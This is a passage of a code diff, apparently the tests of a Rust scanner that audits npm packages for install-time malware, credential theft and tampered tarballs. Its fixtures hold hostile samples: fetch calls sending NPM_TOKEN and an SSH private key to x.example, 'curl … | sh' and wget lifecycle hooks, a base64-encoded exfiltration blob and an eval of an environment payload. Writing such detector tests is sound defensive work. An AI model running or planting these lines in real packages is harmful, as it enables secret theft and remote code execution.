+            "require_provenance".bright_white()
+        );
+    }
+    if block_known_vulnerable {
+        eprintln!(
+            "  • {} (versions with a known advisory rejected)",
+            "block_known_vulnerable".bright_white()
+        );
+    }
     if allow_builds.is_empty() {
         eprintln!(
             "  • {} = [] — all lifecycle scripts blocked",
             "allow_builds".bright_white()
         );
     } else {
-        eprintln!("  • {} = {:?}", "allow_builds".bright_white(), allow_builds);
-    }
-}
+        eprintln!(
+            "  • {} = {:?}{}",
+            "allow_builds".bright_white(),
+            allow_builds,
+            if crate::build_sandbox::is_supported() {
+                " (sandboxed, no network)"
+            } else {
+                ""
+            }
+        );
+    }
+}
 
 #[cfg(test)]
 mod tests {
@@ -2358,23 +3234,13 @@ mod tests {
     use tempfile::TempDir;
 
     fn scanner() -> SecurityScanner {
-        SecurityScanner::new("npm".to_string()).expect("failed to create scanner")
+        SecurityScanner::new().expect("failed to create scanner")
     }
 
     fn empty_audit(name: &str) -> PackageAudit {
         PackageAudit {
             package_name: name.to_string(),
-            has_scripts: false,
-            preinstall: None,
-            install: None,
-            postinstall: None,
-            suspicious_patterns: Vec::new(),
-            source_code_issues: Vec::new(),
-            risk_level: RiskLevel::Safe,
-            dependencies: Vec::new(),
-            dev_dependencies: Vec::new(),
-            behavioral_chains: Vec::new(),
-            risk_score: 0,
+            ..Default::default()
         }
     }
 
@@ -2386,6 +3252,7 @@ mod tests {
             description: "exec call".to_string(),
             severity,
             code_snippet: Some("exec('ls')".to_string()),
+            data_flow: Vec::new(),
         }
     }
 
@@ -2396,11 +3263,12 @@ mod tests {
             evidence: vec!["evidence".to_string()],
             severity: IssueSeverity::Critical,
             risk_score,
+            entry_point: None,
         }
     }
 
     fn sample_transitive_result() -> TransitiveScanResult {
-        let mut audits = HashMap::new();
+        let mut audits = BTreeMap::new();
 
         let mut high = empty_audit("bad-pkg");
         high.risk_level = RiskLevel::High;
@@ -2432,6 +3300,9 @@ mod tests {
             medium_risk_count: 1,
             packages_with_scripts: 1,
             max_depth_reached: 2,
+            suppressed_findings: 0,
+            advisories: Vec::new(),
+            dependency_graph: DependencyGraph::default(),
             package_audits: audits,
         }
     }
@@ -2522,6 +3393,21 @@ mod tests {
         // 1 pattern * 8 + 3 scripts * 3 = 17
         assert_eq!(audit.risk_score, 17);
         assert_eq!(audit.risk_level, RiskLevel::Low);
+
+        // Every hook npm runs counts, as does the implicit node-gyp build
+        audit
+            .lifecycle_scripts
+            .insert("prepare".to_string(), "echo d".to_string());
+        audit.implicit_install = Some("node-gyp rebuild".to_string());
+        s.calculate_and_assign_risk(&mut audit);
+        assert_eq!(audit.script_count(), 5);
+        assert_eq!(audit.risk_score, 23);
+
+        // npm never runs uninstall hooks
+        audit
+            .lifecycle_scripts
+            .insert("preuninstall".to_string(), "echo e".to_string());
+        assert_eq!(audit.script_count(), 5);
     }
 
     #[test]
@@ -2542,6 +3428,205 @@ mod tests {
         assert_eq!(exfil.risk_score, 100);
     }
 
+    #[test]
+    fn exfiltration_chain_uses_taint_path_from_source_code() {
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        fs::write(
+            tmp.path().join("index.js"),
+            "const token = process.env.NPM_TOKEN;\nfetch('https://x.example/?t=' + token);\n",
+        )
+        .unwrap();
+
+        let mut audit = empty_audit("exfil");
+        s.scan_source_code(tmp.path(), &mut audit);
+        s.detect_behavioral_chains(&mut audit);
+
+        let exfil = audit
+            .behavioral_chains
+            .iter()
+            .find(|c| c.chain_type == AttackChainType::DataExfiltration)
+            .expect("exfiltration chain not detected");
+        assert_eq!(exfil.evidence.len(), 3);
+        assert!(exfil.evidence[0]
+            .ends_with(":1 source: reads environment variables (process.env.NPM_TOKEN)"));
+        assert!(exfil.evidence[2].contains(":2 sink: fetch"));
+    }
+
+    #[test]
+    fn scan_source_code_reports_encoded_blobs_outside_javascript() {
+        use base64::Engine;
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        let payload = base64::engine::general_purpose::STANDARD.encode(
+            "const os = require('os'); fetch('https://x.example/' + os.hostname());".repeat(2),
+        );
+        fs::write(
+            tmp.path().join("data.txt"),
+            format!("# cache\n{}\n", payload),
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join("README.md"),
+            format!("![logo]({})", payload),
+        )
+        .unwrap();
+
+        let mut audit = empty_audit("blobs");
+        s.scan_source_code(tmp.path(), &mut audit);
+
+        assert_eq!(audit.source_code_issues.len(), 1);
+        let blob = &audit.source_code_issues[0];
+        assert!(blob.file_path.ends_with("data.txt"));
+        assert_eq!(blob.issue_type, "encoded_blob");
+        assert_eq!(blob.line_number, 2);
+        assert!(blob
+            .description
+            .contains("decodes to 'const os = require('os');"));
+    }
+
+    #[test]
+    fn scan_source_code_checks_scripts_run_by_lifecycle_hooks() {
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        fs::create_dir_all(tmp.path().join("scripts")).unwrap();
+        fs::write(
+            tmp.path().join("scripts/setup.py"),
+            "import os\nos.system('curl -s https://x.example | sh')\n",
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join("scripts/unused.sh"),
+            "chmod +x ./bin/tool\n",
+        )
+        .unwrap();
+
+        let mut audit = empty_audit("hooks");
+        audit.postinstall = Some("python3 scripts/setup.py".to_string());
+        s.scan_source_code(tmp.path(), &mut audit);
+
+        let setup = audit
+            .source_code_issues
+            .iter()
+            .find(|i| i.file_path.ends_with("setup.py"))
+            .expect("python script not scanned");
+        assert_eq!(setup.severity, IssueSeverity::Critical);
+        assert!(setup.description.ends_with("run by the postinstall script"));
+        let unused = audit
+            .source_code_issues
+            .iter()
+            .find(|i| i.file_path.ends_with("unused.sh"))
+            .expect("shell script not scanned");
+        assert_eq!(unused.severity, IssueSeverity::Warning);
+    }
+
+    #[test]
+    fn scan_source_code_elevates_install_time_entry_points() {
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        fs::create_dir_all(tmp.path().join("scripts")).unwrap();
+        let code = "require('child_process');\nnew Function('return 1');\n";
+        fs::write(tmp.path().join("scripts/setup.js"), code).unwrap();
+        fs::write(tmp.path().join("lib.js"), code).unwrap();
+
+        let mut audit = empty_audit("entry");
+        audit
+            .lifecycle_scripts
+            .insert("prepare".to_string(), "node scripts/setup".to_string());
+        s.scan_source_code(tmp.path(), &mut audit);
+
+        let dynamic_function = |file: &str| {
+            audit
+                .source_code_issues
+                .iter()
+                .find(|i| i.file_path.ends_with(file) && i.issue_type == "dynamic_function")
+                .unwrap_or_else(|| panic!("no finding in {}", file))
+        };
+        let setup = dynamic_function("setup.js");
+        assert_eq!(setup.severity, IssueSeverity::Critical);
+        assert!(setup
+            .description
+            .ends_with("(install-time entry point: prepare)"));
+        assert_eq!(dynamic_function("lib.js").severity, IssueSeverity::Warning);
+    }
+
+    #[test]
+    fn scan_source_code_reports_chains_split_across_modules() {
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        fs::create_dir_all(tmp.path().join("lib")).unwrap();
+        fs::write(
+            tmp.path().join("package.json"),
+            r#"{"name": "split", "bin": "cli.js"}"#,
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join("cli.js"),
+            "require('./lib/post')(require('./lib/read')());\n",
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join("lib/read.js"),
+            "const fs = require('fs');\nmodule.exports = () => fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');\n",
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join("lib/post.js"),
+            "module.exports = (key) => fetch('https://x.example', { method: 'POST', body: key });\n",
+        )
+        .unwrap();
+
+        let mut audit = empty_audit("split");
+        s.scan_source_code(tmp.path(), &mut audit);
+
+        let theft = audit
+            .behavioral_chains
+            .iter()
+            .find(|c| c.entry_point.is_some())
+            .expect("cross-module chain not detected");
+        assert_eq!(theft.chain_type, AttackChainType::CredentialTheft);
+        assert_eq!(theft.entry_point.as_deref(), Some("bin (cli.js)"));
+        assert!(theft
+            .evidence
+            .contains(&"import path: cli.js -> lib/post.js".to_string()));
+    }
+
+    #[test]
+    fn scan_source_code_ignores_chains_no_entry_point_reaches() {
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        fs::create_dir_all(tmp.path().join("lib")).unwrap();
+        fs::write(
+            tmp.path().join("package.json"),
+            r#"{"name": "tidy", "main": "index.js"}"#,
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join("index.js"),
+            "module.exports = 1;
+",
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join("lib/unused.js"),
+            "const fs = require('fs');
+const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');
+fetch('https://x.example', { method: 'POST', body: key });
+",
+        )
+        .unwrap();
+
+        let mut audit = empty_audit("tidy");
+        s.scan_source_code(tmp.path(), &mut audit);
+
+        assert!(!audit.source_code_issues.is_empty());
+        assert!(
+            audit.behavioral_chains.is_empty(),
+            "{:?}",
+            audit.behavioral_chains
+        );
+    }
+
     #[test]
     fn no_chains_for_benign_scripts() {
         let s = scanner();
@@ -2580,6 +3665,47 @@ mod tests {
         assert!(audit.risk_score > 0);
     }
 
+    #[test]
+    fn analyze_package_json_models_every_lifecycle_hook() {
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        let pkg = tmp.path().join("package.json");
+        fs::write(
+            &pkg,
+            r#"{
+                "name": "hooks-pkg",
+                "bin": { "git": "bin/git.js", "hooks": "bin/cli.js" },
+                "scripts": {
+                    "prepare": "wget https://x.example/p.sh",
+                    "prepublish": "node scripts/build",
+                    "test": "jest"
+                }
+            }"#,
+        )
+        .unwrap();
+        fs::write(tmp.path().join("binding.gyp"), "{}").unwrap();
+
+        let audit = s.analyze_package_json(&pkg, "hooks-pkg").unwrap();
+        assert_eq!(
+            audit.lifecycle_hooks(),
+            [
+                ("prepublish", "node scripts/build"),
+                ("prepare", "wget https://x.example/p.sh"),
+            ]
+        );
+        assert!(!audit.lifecycle_scripts.contains_key("test"));
+        assert_eq!(audit.implicit_install.as_deref(), Some("node-gyp rebuild"));
+        assert_eq!(audit.shadowed_commands, ["git"]);
+        assert!(audit
+            .suspicious_patterns
+            .iter()
+            .any(|p| p.starts_with("wget")));
+        assert!(audit
+            .suspicious_patterns
+            .iter()
+            .any(|p| p.starts_with("bin 'git'")));
+    }
+
     #[test]
     fn analyze_package_json_clean_package() {
         let s = scanner();
@@ -2594,6 +3720,409 @@ mod tests {
         assert!(audit.suspicious_patterns.is_empty());
     }
 
+    #[test]
+    fn scan_lockfile_audits_pinned_versions_from_tarballs() {
+        use crate::lockfile::{LockedDependency, LockedPackage};
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        let integrity = registry.publish(
+            "evil",
+            "1.0.0",
+            build_tarball(&[
+            (
+                "package/package.json",
+                r#"{"name":"evil","version":"1.0.0","scripts":{"postinstall":"curl http://x.sh | sh"}}"#,
+            ),
+                ("package/index.js", "eval(process.env.PAYLOAD);"),
+            ]),
+        );
+
+        let mut graph = LockfileGraph::default();
+        graph
+            .root
+            .dependencies
+            .insert("evil".to_string(), LockedDependency::new("^1.0.0", "1.0.0"));
+        let mut evil = LockedPackage::new("evil", "1.0.0");
+        evil.resolved = Some(format!("{}/evil/-/1.0.0.tgz", registry.url));
+        evil.integrity = Some(integrity);
+        graph.insert(evil);
+
+        let result = scanner().scan_lockfile(&graph, true, None).unwrap();
+        let audit = &result.package_audits["evil@1.0.0"];
+        assert_eq!(result.scanned_packages, 1);
+        assert_eq!(audit.version.as_deref(), Some("1.0.0"));
+        assert!(audit.has_scripts);
+        assert!(!audit.source_code_issues.is_empty());
+    }
+
+    #[test]
+    fn patch_release_gaining_network_is_flagged_as_drift() {
+        let temp = TempDir::new().unwrap();
+        let installed = temp.path().join("node_modules").join("left-pad");
+        fs::create_dir_all(&installed).unwrap();
+        fs::write(
+            installed.join("package.json"),
+            r#"{"name":"left-pad","version":"1.3.0"}"#,
+        )
+        .unwrap();
+        fs::write(installed.join("index.js"), "module.exports = (s) => s;").unwrap();
+
+        let next = temp.path().join("next");
+        fs::create_dir_all(&next).unwrap();
+        fs::write(
+            next.join("index.js"),
+            "const https = require('https');\nhttps.get('https://example.com');",
+        )
+        .unwrap();
+        let mut audit = empty_audit("left-pad@1.3.1");
+        audit.version = Some("1.3.1".to_string());
+        let scanner = scanner();
+        scanner.scan_source_code(&next, &mut audit);
+        assert!(audit.capabilities.contains(&Capability::Network));
+
+        scanner.check_capability_drift_in(&mut audit, &temp.path().join("node_modules"));
+        let drift = audit.capability_drift.as_ref().expect("drift recorded");
+        assert_eq!(drift.from_version, "1.3.0");
+        assert!(drift.gained.contains(&Capability::Network));
+        assert!(drift.is_suspicious());
+        assert!(audit.risk_score >= drift.risk_score());
+    }
+
+    #[test]
+    fn parallel_map_preserves_input_order() {
+        let items: Vec<u64> = (0..50).collect();
+        let output = parallel_map(&items, 8, |n| {
+            std::thread::sleep(std::time::Duration::from_millis(50 - n));
+            n * 2
+        });
+        assert_eq!(output, items.iter().map(|n| n * 2).collect::<Vec<_>>());
+    }
+
+    #[test]
+    fn audit_locked_package_verifies_the_pinned_tarball() {
+        use crate::lockfile::LockedPackage;
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        let integrity = registry.publish(
+            "pinned",
+            "1.0.0",
+            build_tarball(&[(
+                "package/package.json",
+                r#"{"name":"pinned","version":"1.0.0","scripts":{"postinstall":"node x.js"}}"#,
+            )]),
+        );
+        let mut package = LockedPackage::new("pinned", "1.0.0");
+        package.resolved = Some(format!("{}/pinned/-/1.0.0.tgz", registry.url));
+
+        package.integrity = Some(integrity);
+        let audit = scanner().audit_locked_package(&package).unwrap();
+        assert_eq!(audit.version.as_deref(), Some("1.0.0"));
+        assert!(audit.has_scripts);
+
+        // The lockfile pins another tarball than the one served
+        package.integrity = Some("sha512-AAAA".to_string());
+        let err = scanner().audit_locked_package(&package).unwrap_err();
+        assert!(
+            format!("{:#}", err).contains("Integrity check failed"),
+            "{err:#}"
+        );
+        package.integrity = None;
+        assert!(scanner().audit_locked_package(&package).is_err());
+    }
+
+    #[test]
+    fn scan_lockfile_is_deterministic_across_concurrency_levels() {
+        use crate::lockfile::LockedPackage;
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        let mut graph = LockfileGraph::default();
+        for (name, deps) in [
+            ("app-a", vec!["dep-1", "dep-2"]),
+            ("app-b", vec!["dep-2", "dep-3"]),
+            ("dep-1", vec!["leaf"]),
+            ("dep-2", vec!["leaf"]),
+            ("dep-3", vec![]),
+            ("leaf", vec![]),
+        ] {
+            let manifest = format!(r#"{{"name":"{}","version":"1.0.0"}}"#, name);
+            let integrity = registry.publish(
+                name,
+                "1.0.0",
+                build_tarball(&[("package/package.json", &manifest)]),
+            );
+            let mut package = LockedPackage::new(name, "1.0.0");
+            package.resolved = Some(format!("{}/{}/-/1.0.0.tgz", registry.url, name));
+            package.integrity = Some(integrity);
+            for dep in deps {
+                package
+                    .dependencies
+                    .insert(dep.to_string(), LockedDependency::new("^1.0.0", "1.0.0"));
+            }
+            graph.insert(package);
+        }
+        for root in ["app-a", "app-b"] {
+            graph
+                .root
+                .dependencies
+                .insert(root.to_string(), LockedDependency::new("^1.0.0", "1.0.0"));
+        }
+
+        let sequential = scanner().scan_lockfile(&graph, true, None).unwrap();
+        let parallel = scanner()
+            .with_concurrency(4)
+            .scan_lockfile(&graph, true, None)
+            .unwrap();
+
+        assert_eq!(sequential.total_packages, 6);
+        assert_eq!(sequential.max_depth_reached, 2);
+        assert_eq!(
+            serde_json::to_string(&sequential).unwrap(),
+            serde_json::to_string(&parallel).unwrap()
+        );
+        assert_eq!(
+            parallel.package_audits.keys().collect::<Vec<_>>(),
+            vec![
+                "app-a@1.0.0",
+                "app-b@1.0.0",
+                "dep-1@1.0.0",
+                "dep-2@1.0.0",
+                "dep-3@1.0.0",
+                "leaf@1.0.0"
+            ]
+        );
+        // Parent edges survive the scan, so `fnpm why leaf` finds both paths
+        assert_eq!(parallel.dependency_graph, sequential.dependency_graph);
+        assert_eq!(parallel.dependency_graph.roots.len(), 2);
+        assert_eq!(
+            parallel.dependency_graph.dependents("leaf@1.0.0"),
+            vec!["dep-1@1.0.0", "dep-2@1.0.0"]
+        );
+        let why = crate::dependency_graph::explain(&parallel, "leaf");
+        assert_eq!(why.total_paths, 3);
+        assert_eq!(why.paths[0][0].name, "app-a");
+        assert_eq!(why.paths[0][2].version.as_deref(), Some("1.0.0"));
+        assert_eq!(why.paths[0][2].risk_level, Some(RiskLevel::Safe));
+    }
+
+    #[test]
+    fn audit_package_fetches_tarball_from_the_registry() {
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        registry.publish(
+            "@acme/helper",
+            "2.1.0",
+            build_tarball(&[
+                (
+                    "package/package.json",
+                    r#"{"name":"@acme/helper","version":"2.1.0","scripts":{"preinstall":"node x.js"}}"#,
+                ),
+                ("package/index.js", "module.exports = 1;"),
+            ]),
+        );
+
+        let scanner = SecurityScanner::new().unwrap().with_registry(&registry.url);
+        let audit = scanner.audit_package("@acme/helper@^2.0.0").unwrap();
+        assert_eq!(audit.version.as_deref(), Some("2.1.0"));
+        assert!(audit.has_scripts);
+    }
+
+    #[test]
+    fn audit_package_verifies_registry_signature_and_provenance() {
+        use crate::provenance::tests::TestKey;
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        let key = TestKey::generate();
+        registry.route(
+            provenance::KEYS_PATH,
+            key.registry_keys().to_string().into_bytes(),
+        );
+        let publish = |name: &str, signed_as: &str| {
+            let integrity = registry.publish(
+                name,
+                "1.0.0",
+                build_tarball(&[(
+                    "package/package.json",
+                    &format!(r#"{{"name":"{}","version":"1.0.0"}}"#, name),
+                )]),
+            );
+            let attestations = format!("/-/npm/v1/attestations/{}@1.0.0", name);
+            registry.route(
+                &attestations,
+                key.attestations(name, "1.0.0", &integrity)
+                    .to_string()
+                    .into_bytes(),
+            );
+            let packument = serde_json::json!({
+                "name": name,
+                "dist-tags": { "latest": "1.0.0" },
+                "versions": { "1.0.0": { "dist": {
+                    "tarball": format!("{}/{}/-/1.0.0.tgz", registry.url, name),
+                    "integrity": integrity,
+                    "signatures": key.registry_signature(signed_as, "1.0.0", &integrity),
+                    "attestations": { "url": format!("{}{}", registry.url, attestations) },
+                } } }
+            });
+            registry.route(&format!("/{}", name), packument.to_string().into_bytes());
+        };
+        publish("signed-widget", "signed-widget");
+        publish("resigned-widget", "other-widget");
+
+        let scanner = scanner().with_registry(&registry.url);
+        let audit = scanner.audit_package("signed-widget").unwrap();
+        let report = audit.provenance.as_ref().expect("provenance checked");
+        assert_eq!(report.signature, VerificationStatus::Verified);
+        assert_eq!(report.attestation, VerificationStatus::SelfSigned);
+        assert!(!report.has_provenance());
+        assert_eq!(
+            report.source_repository.as_deref(),
+            Some("https://github.com/acme/widget")
+        );
+        assert_eq!(audit.risk_level, RiskLevel::Safe);
+
+        // Registry signature made for another package
+        let audit = scanner.audit_package("resigned-widget").unwrap();
+        let report = audit.provenance.as_ref().unwrap();
+        assert_eq!(report.signature, VerificationStatus::Mismatched);
+        assert_eq!(report.attestation, VerificationStatus::SelfSigned);
+        assert_eq!(audit.risk_level, RiskLevel::Critical);
+    }
+
+    #[test]
+    fn audit_package_scores_registry_metadata_signals() {
+        use crate::registry_metadata::SignalKind;
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        let integrity = registry.publish(
+            "widget-meta",
+            "1.0.1",
+            build_tarball(&[(
+                "package/package.json",
+                r#"{"name":"widget-meta","version":"1.0.1"}"#,
+            )]),
+        );
+        let packument = serde_json::json!({
+            "name": "widget-meta",
+            "dist-tags": { "latest": "1.0.1" },
+            "repository": "github:acme/widget-meta",
+            "time": {
+                "1.0.0": "2024-01-01T00:00:00.000Z",
+                "1.0.1": "2025-01-01T00:00:00.000Z",
+            },
+            "versions": {
+                "1.0.0": {
+                    "_npmUser": { "name": "alice" },
+                    "dist": { "attestations": { "url": "https://registry.example/attestations" } },
+                },
+                "1.0.1": {
+                    "_npmUser": { "name": "mallory" },
+                    "dist": {
+                        "tarball": format!("{}/widget-meta/-/1.0.1.tgz", registry.url),
+                        "integrity": integrity,
+                    },
+                },
+            }
+        });
+        registry.route("/widget-meta", packument.to_string().into_bytes());
+
+        let audit = scanner()
+            .with_registry(&registry.url)
+            .audit_package("widget-meta@1.0.1")
+            .unwrap();
+        let kinds: Vec<SignalKind> = audit.metadata_signals.iter().map(|s| s.kind).collect();
+        assert_eq!(
+            kinds,
+            vec![SignalKind::NewPublisher, SignalKind::ProvenanceDropped]
+        );
+        assert!(audit.risk_score >= 65);
+        assert_eq!(audit.risk_level, RiskLevel::High);
+    }
+
+    #[test]
+    fn audit_cache_skips_download_of_known_tarball() {
+        use crate::registry_metadata::SignalKind;
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        let integrity = registry.publish(
+            "cached",
+            "1.0.0",
+            build_tarball(&[(
+                "package/package.json",
+                r#"{"name":"cached","version":"1.0.0","scripts":{"postinstall":"node x.js"}}"#,
+            )]),
+        );
+        let cache_dir = TempDir::new().unwrap();
+        let cached_scanner = || {
+            scanner()
+                .with_registry(&registry.url)
+                .with_audit_cache(AuditCache::at(cache_dir.path().to_path_buf()))
+        };
+
+        let first = cached_scanner().audit_package_quiet("cached").unwrap();
+        assert!(first.has_scripts);
+
+        // The tarball is gone, so only the cache can answer, and the version
+        // has been deprecated since
+        registry.route("/cached/-/1.0.0.tgz", b"not a tarball".to_vec());
+        let packument = serde_json::json!({
+            "name": "cached",
+            "dist-tags": { "latest": "1.0.0" },
+            "versions": { "1.0.0": {
+                "name": "cached",
+                "version": "1.0.0",
+                "deprecated": "compromised, use 1.0.1",
+                "dist": {
+                    "tarball": format!("{}/cached/-/1.0.0.tgz", registry.url),
+                    "integrity": integrity,
+                }
+            } }
+        });
+        registry.route("/cached", packument.to_string().into_bytes());
+        let second = cached_scanner()
+            .audit_package_quiet("cached@^1.0.0")
+            .unwrap();
+        assert_eq!(second.package_name, "cached@^1.0.0");
+        assert_eq!(second.postinstall, first.postinstall);
+        // Checked against the registry again rather than read from the cache
+        let deprecated = |audit: &PackageAudit| {
+            audit
+                .metadata_signals
+                .iter()
+                .any(|signal| signal.kind == SignalKind::Deprecated)
+        };
+        assert!(!deprecated(&first));
+        assert!(deprecated(&second));
+        assert!(second.risk_score > first.risk_score);
+        assert_eq!(second.provenance, first.provenance);
+        assert!(second.provenance.is_some());
+    }
+
+    #[test]
+    fn audit_package_rejects_tarball_with_wrong_integrity() {
+        use crate::tarball::tests::{build_tarball, MockRegistry};
+
+        let registry = MockRegistry::start();
+        registry.publish(
+            "tampered",
+            "1.0.0",
+            build_tarball(&[("package/package.json", "{}")]),
+        );
+        registry.route(
+            "/tampered/-/1.0.0.tgz",
+            build_tarball(&[("package/package.json", r#"{"name":"tampered"}"#)]),
+        );
+
+        let scanner = scanner().with_registry(&registry.url);
+        let err = scanner.audit_package_quiet("tampered").unwrap_err();
+        assert!(format!("{:#}", err).contains("Integrity check failed"));
+    }
+
     #[test]
     fn walk_directory_skips_excluded_dirs() {
         let s = scanner();
@@ -2705,6 +4234,96 @@ mod tests {
         assert!(md.contains("## Low Risk Packages With Findings"));
     }
 
+    #[test]
+    fn advisories_are_matched_and_exported() {
+        use crate::advisories::tests::{build_zip, lodash_record};
+
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        let database =
+            AdvisoryDatabase::from_osv_zip(&build_zip(&[("lodash.json", &lodash_record())]))
+                .unwrap();
+        let mut result = sample_transitive_result();
+        let mut old = empty_audit("lodash");
+        old.version = Some("4.17.4".to_string());
+        result
+            .package_audits
+            .insert("lodash@4.17.4".to_string(), old);
+        let mut patched = empty_audit("lodash");
+        patched.version = Some("4.17.21".to_string());
+        result
+            .package_audits
+            .insert("lodash@4.17.21".to_string(), patched);
+
+        SecurityScanner::match_advisories_in_result(&mut result, &database);
+        assert_eq!(result.advisories.len(), 1);
+        assert_eq!(result.advisories[0].version, "4.17.4");
+        assert_eq!(result.advisories[0].fixed_in.as_deref(), Some("4.17.12"));
+        s.display_transitive_summary(&result);
+
+        let json_path = tmp.path().join("scan.json");
+        s.export_transitive_to_json(&result, json_path.to_str().unwrap())
+            .unwrap();
+        let parsed: TransitiveScanResult =
+            serde_json::from_str(&fs::read_to_string(&json_path).unwrap()).unwrap();
+        assert_eq!(parsed.advisories, result.advisories);
+
+        let md_path = tmp.path().join("scan.md");
+        s.export_transitive_to_markdown(&result, md_path.to_str().unwrap())
+            .unwrap();
+        let md = fs::read_to_string(&md_path).unwrap();
+        assert!(md.contains("## Known Vulnerabilities"));
+        assert!(md.contains(
+            "| lodash@4.17.4 | GHSA-jf85-cpcp-j695 (CVE-2019-10744) | CRITICAL | <4.17.12 | 4.17.12 |"
+        ));
+    }
+
+    #[test]
+    fn build_findings_raise_the_built_version() {
+        use crate::build_sandbox::{self, SandboxViolation, ViolationKind};
+
+        let s = scanner();
+        let tmp = TempDir::new().unwrap();
+        let log = tmp.path().join("build-violations.jsonl");
+        let violation = SandboxViolation {
+            package: "native".to_string(),
+            kind: ViolationKind::ProjectWrite,
+            evidence: "openat /app/index.js by node".to_string(),
+        };
+        build_sandbox::log_violations(
+            &log,
+            "native",
+            Some("1.0.0"),
+            std::slice::from_ref(&violation),
+        )
+        .unwrap();
+        let findings = BuildFindings::load(&log).unwrap();
+
+        let mut result = sample_transitive_result();
+        for version in ["1.0.0", "2.0.0"] {
+            let mut audit = empty_audit("native");
+            audit.version = Some(version.to_string());
+            result
+                .package_audits
+                .insert(format!("native@{}", version), audit);
+        }
+        for _ in 0..2 {
+            s.apply_build_findings_to_result(&mut result, &findings);
+        }
+
+        let built = &result.package_audits["native@1.0.0"];
+        assert_eq!(built.source_code_issues.len(), 1);
+        assert_eq!(
+            built.source_code_issues[0].issue_type,
+            "sandbox_project_write"
+        );
+        assert!(built.risk_level > RiskLevel::Safe);
+        assert_eq!(
+            result.package_audits["native@2.0.0"].risk_level,
+            RiskLevel::Safe
+        );
+    }
+
     #[test]
     fn display_functions_smoke() {
         let s = scanner();
@@ -2731,8 +4350,8 @@ mod tests {
         s.display_transitive_summary_with_options(&result, true);
         s.display_main_package_from_transitive(&result, "bad-pkg", true);
         s.display_main_package_from_transitive(&result, "missing-pkg", false);
-        print_protections_banner(60, true, &["esbuild".to_string()]);
-        print_protections_banner(0, false, &[]);
+        print_protections_banner(60, true, true, true, true, &["esbuild".to_string()]);
+        print_protections_banner(0, false, false, false, false, &[]);
     }
 
     #[test]
@@ -2787,4 +4406,19 @@ mod tests {
             .unwrap()
             .is_none());
     }
+
+    #[test]
+    fn declared_license_reads_modern_and_legacy_fields() {
+        let license = |json: &str| declared_license(&serde_json::from_str(json).unwrap());
+        assert_eq!(license(r#"{"license":"MIT"}"#).as_deref(), Some("MIT"));
+        assert_eq!(
+            license(r#"{"license":{"type":"ISC","url":"x"}}"#).as_deref(),
+            Some("ISC")
+        );
+        assert_eq!(
+            license(r#"{"licenses":[{"type":"MIT"},{"type":"Apache-2.0"}]}"#).as_deref(),
+            Some("(MIT OR Apache-2.0)")
+        );
+        assert_eq!(license(r#"{"license":""}"#), None);
+    }
 }